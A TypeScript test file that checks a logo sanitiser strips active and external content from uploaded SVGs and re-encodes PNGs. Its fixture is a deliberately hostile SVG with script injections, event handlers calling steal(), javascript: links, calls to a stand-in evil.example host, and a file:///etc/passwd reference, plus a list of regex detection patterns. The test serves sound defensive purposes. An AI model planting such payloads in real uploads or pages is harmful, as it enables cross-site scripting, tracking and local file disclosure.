/**
 * The logo: an SVG loses everything active or external (scripts, event
 * handlers, foreign objects, links, references to other files and sites,
 * @import) and keeps what draws it; what is rasterised is the sanitised
 * file. PNG outputs are checked by reading their header bytes, not by the
 * library that wrote them.
 */
import { describe, expect, it } from "vitest";
import {
  CARD_SIZE,
  LOGO_PNG_HEIGHT,
  LogoProblem,
  processLogo,
  sanitiseSvg,
  sniffLogo,
} from "./logo.server";

/** Width and height from a PNG's IHDR chunk, or null when the bytes are not a PNG. */
function pngSize(bytes: Buffer): { width: number; height: number } | null {
  const signature = "89504e470d0a1a0a";
  if (bytes.subarray(0, 8).toString("hex") !== signature) return null;
  if (bytes.subarray(12, 16).toString("ascii") !== "IHDR") return null;
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

const HOSTILE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 80" width="200" height="80" onload="alert('load')">
  <style>@import url("https://evil.example/x.css"); .mark { fill: #1d3b6a } .bg { fill: url(https://evil.example/p.svg#g) }</style>
  <script>alert('script')</script>
  <script xlink:href="https://evil.example/x.js"/>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#f5c451"/></linearGradient></defs>
  <rect class="mark" width="200" height="80" onclick="steal()" onmouseover="steal()"/>
  <circle cx="40" cy="40" r="20" fill="url(#g)"/>
  <rect x="90" width="20" height="20" fill="url(https://evil.example/z)" style="fill:url('http://evil.example/q')"/>
  <image href="https://evil.example/track.png" width="5" height="5"/>
  <image xlink:href="file:///etc/passwd" width="5" height="5"/>
  <use href="https://evil.example/sprite.svg#icon"/>
  <a href="javascript:alert('link')"><text x="10" y="70">click</text></a>
  <foreignObject width="10" height="10"><iframe src="https://evil.example/"></iframe></foreignObject>
  <animate attributeName="href" to="javascript:alert(1)"/>
  <text x="70" y="50" fill="#ffffff">Harbour</text>
</svg>`;

describe("the logo", () => {
  it("recognises SVG and PNG by their content, not their name", () => {
    expect(sniffLogo(Buffer.from(HOSTILE))).toBe("svg");
    expect(sniffLogo(Buffer.from("\uFEFF<svg xmlns='http://www.w3.org/2000/svg'/>"))).toBe("svg");
    expect(sniffLogo(Buffer.from("<html><svg></svg></html>"))).toBeNull();
    expect(sniffLogo(Buffer.from("%PDF-1.4"))).toBeNull();
  });

  it("strips scripts, event handlers, foreign content and every reference that leaves the file", async () => {
    const clean = await sanitiseSvg(HOSTILE);
    for (const bad of [
      /<script/i,
      /\son[a-z]+=/i,
      /javascript:/i,
      /evil\.example/,
      /file:/,
      /@import/,
      /<foreignObject/i,
      /<iframe/i,
      /<animate/i,
      /<a[\s>]/i,
    ])
      expect(clean, String(bad)).not.toMatch(bad);
    // What draws the logo stays: shapes, text, the local gradient and its reference.
    expect(clean).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    expect(clean).toContain('fill="url(#g)"');
    expect(clean).toContain("Harbour");
    expect(clean).toContain(".mark { fill: #1d3b6a }");
    expect(clean).toMatch(/<linearGradient id="g">/);
  });

  it("rasterises the sanitised SVG: a PNG at the email height and a 1200×630 card", async () => {
    const logo = await processLogo(Buffer.from(HOSTILE));
    expect(logo.type).toBe("svg");
    expect(logo.original.toString("utf8")).not.toMatch(/script|evil/);
    expect(pngSize(logo.png)).toEqual({ width: 400, height: LOGO_PNG_HEIGHT });
    expect({ width: logo.width, height: logo.height }).toEqual({ width: 400, height: 160 });
    expect(pngSize(logo.card)).toEqual(CARD_SIZE);
  });

  it("re-encodes a PNG and refuses what cannot be drawn", async () => {
    const { default: sharp } = await import("sharp");
    const png = await sharp({
      create: { width: 300, height: 100, channels: 3, background: "#123456" },
    })
      .png()
      .withMetadata({ exif: { IFD0: { Copyright: "secret note" } } })
      .toBuffer();
    const logo = await processLogo(png);
    expect(logo.type).toBe("png");
    expect(pngSize(logo.original)).toEqual({ width: 300, height: 100 });
    expect(logo.original.includes("secret note")).toBe(false);
    // A small PNG is not blown up for emails.
    expect(pngSize(logo.png)).toEqual({ width: 300, height: 100 });

    await expect(processLogo(Buffer.from("GIF89a…"))).rejects.toThrow(LogoProblem);
    await expect(processLogo(Buffer.from("<svg><script>x</script></svg"))).rejects.toThrow(
      LogoProblem,
    );
    const broken = Buffer.concat([png.subarray(0, 40), Buffer.alloc(40)]);
    await expect(processLogo(broken)).rejects.toThrow("The PNG could not be read");
  });
});
